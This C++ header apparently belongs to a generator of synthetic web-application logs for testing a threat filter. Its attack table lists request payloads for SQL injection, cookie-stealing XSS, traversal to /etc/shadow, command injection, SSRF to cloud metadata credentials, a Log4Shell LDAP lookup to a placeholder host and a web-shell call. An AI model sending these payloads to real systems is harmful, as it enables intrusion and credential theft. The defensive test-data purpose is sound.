// What the generator of logs is made of: its random numbers, its word lists and its files.
#pragma once

#include <fmt/format.h>

#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <filesystem>
#include <string>
#include <string_view>

namespace penstock::aura {

using std::string;
using std::string_view;

// splitmix64 (Steele, Lea, Flood 2014): small, and the same everywhere.
class Random {
 public:
  explicit Random(uint64_t seed) : state_(seed) {}
  uint64_t next() {
    uint64_t z = (state_ += 0x9E3779B97F4A7C15U);
    z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9U;
    z = (z ^ (z >> 27)) * 0x94D049BB133111EBU;
    return z ^ (z >> 31);
  }
  uint64_t below(uint64_t n) { return next() % n; }
  double unit() { return static_cast<double>(next() >> 11) * 0x1p-53; }
  bool chance(double p) { return unit() < p; }
  template <size_t N>
  string_view pick(const string_view (&list)[N]) {
    return list[below(N)];
  }

 private:
  uint64_t state_;
};

inline constexpr string_view kFirstNames[] = {
    "anna",  "ben",  "carla", "david", "elena", "farid", "grace", "hiro", "ines", "jonas",
    "katya", "liam", "mina",  "noah",  "olga",  "paul",  "rosa",  "sven", "tara", "yusuf"};
inline constexpr string_view kLastNames[] = {
    "abbott", "brandt",  "cortez", "dimitrov", "eriksen",   "fischer", "garcia",
    "haddad", "ivanova", "jensen", "kowalski", "lindqvist", "moreau",  "nakamura",
    "okafor", "petrov",  "quinn",  "rossi",    "schmidt",   "tanaka"};
inline constexpr string_view kDomains[] = {"example.com", "mail.example.org", "clinic.example.net",
                                           "post.example.de"};
inline constexpr string_view kApps[] = {"patients", "appointments", "billing", "records",
                                        "accounts", "messaging",    "labs"};
inline constexpr string_view kLevels[] = {"DEBUG", "INFO", "INFO", "INFO",
                                          "INFO",  "INFO", "INFO", "WARNING"};
inline constexpr string_view kMethods[] = {"GET",  "GET", "GET",   "GET",
                                           "POST", "PUT", "PATCH", "DELETE"};
inline constexpr string_view kTasks[] = {"send_reminder",   "sync_lab_results",
                                         "export_invoice",  "rebuild_search_index",
                                         "expire_sessions", "import_hl7"};
inline constexpr string_view kUserAgents[] = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/129.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.6 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:131.0) Gecko/20100101 Firefox/131.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/128.0.6613.127 Mobile Safari/537.36",
    "AuraMobile/4.2.1 (iOS 17.6; iPhone15,2)",
    "okhttp/4.12.0",
    "python-requests/2.32.3",
    "kube-probe/1.29"};

// {type the threat filter should find, request target}
struct Attack {
  string_view type, target;
};
inline constexpr Attack kAttacks[] = {
    {"sql_injection",
     "/patients/?id=1%27%20UNION%20SELECT%20username,password%20FROM%20auth_user--%20-"},
    {"sql_injection", "/records/search?q=x%27%20OR%20%271%27=%271"},
    {"sql_injection", "/labs/?order=1;SELECT%20pg_sleep(10)--"},
    {"xss", "/messaging/?subject=%3Cscript%3Ealert(document.cookie)%3C/script%3E"},
    {"xss", "/accounts/profile?name=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E"},
    {"path_traversal", "/static/../../../../etc/passwd"},
    {"path_traversal", "/media/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow"},
    {"command_injection", "/billing/export?file=a.pdf;cat%20/etc/passwd"},
    {"command_injection", "/labs/import?host=127.0.0.1%7Cid"},
    {"ssrf",
     "/records/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/"},
    {"log4shell", "/?x=$%7Bjndi:ldap://198.51.100.7:1389/a%7D"},
    {"web_shell", "/uploads/c99.php?cmd=whoami"},
    {"template_injection", "/messaging/preview?body=%7B%7B7*7%7D%7D%7B%7Bconfig.items()%7D%7D"},
};

inline constexpr string_view kTraceback =
    "Traceback (most recent call last):\n  File "
    "\"/srv/aura/venv/lib/python3.11/site-packages/django/core/handlers/exception.py\", "
    "line 55, in inner\n    response = get_response(request)\n  File \"/srv/aura/{}/views.py\", "
    "line {}, in get_queryset\n"
    "    return self.model.objects.get(pk=pk)\n{}.models.DoesNotExist: matching query does not "
    "exist.";
inline constexpr string_view kJavaTrace =
    "java.lang.IllegalStateException: HL7 segment PID missing\n\tat "
    "com.aura.hl7.Parser.segment(Parser.java:{})\n\tat "
    "com.aura.hl7.Parser.parse(Parser.java:88)\n\tat "
    "com.aura.gateway.Handler.handle(Handler.java:41)\nCaused by: "
    "java.io.EOFException\n\t... 12 more";

class File {
 public:
  File(const std::filesystem::path& path) : file_(std::fopen(path.c_str(), "wb")) {
    if (!file_) {
      std::fprintf(stderr, "aura-logs: cannot write %s: %s\n", path.c_str(), std::strerror(errno));
      std::exit(1);
    }
    std::setvbuf(file_, nullptr, _IOFBF, 1 << 20);
  }
  ~File() {
    if (std::fclose(file_) != 0) std::exit(1);
  }
  File(const File&) = delete;
  void line(string_view text) {
    if (std::fwrite(text.data(), 1, text.size(), file_) != text.size() ||
        std::fputc('\n', file_) == EOF) {
      std::fprintf(stderr, "aura-logs: cannot write: %s\n", std::strerror(errno));
      std::exit(1);
    }
    ++lines;
  }
  uint64_t lines = 0;

 private:
  std::FILE* file_;
};

inline string luhn_card(Random& random) {
  string digits = random.chance(0.5) ? "4" : "51";
  while (digits.size() < 15) digits += static_cast<char>('0' + random.below(10));
  int sum = 0;
  for (size_t i = 0; i < 15; ++i) {
    int digit = digits[14 - i] - '0';
    if (i % 2 == 0) digit = digit * 2 > 9 ? digit * 2 - 9 : digit * 2;
    sum += digit;
  }
  digits += static_cast<char>('0' + (10 - sum % 10) % 10);
  return fmt::format("{}-{}-{}-{}", digits.substr(0, 4), digits.substr(4, 4), digits.substr(8, 4),
                     digits.substr(12));
}

inline string json_text(string_view text) {
  string out = "\"";
  for (const char c : text) {
    if (c == '"' || c == '\\') out += '\\';
    if (c == '\n')
      out += "\\n";
    else if (c == '\t')
      out += "\\t";
    else
      out += c;
  }
  return out + '"';
}

}  // namespace penstock::aura
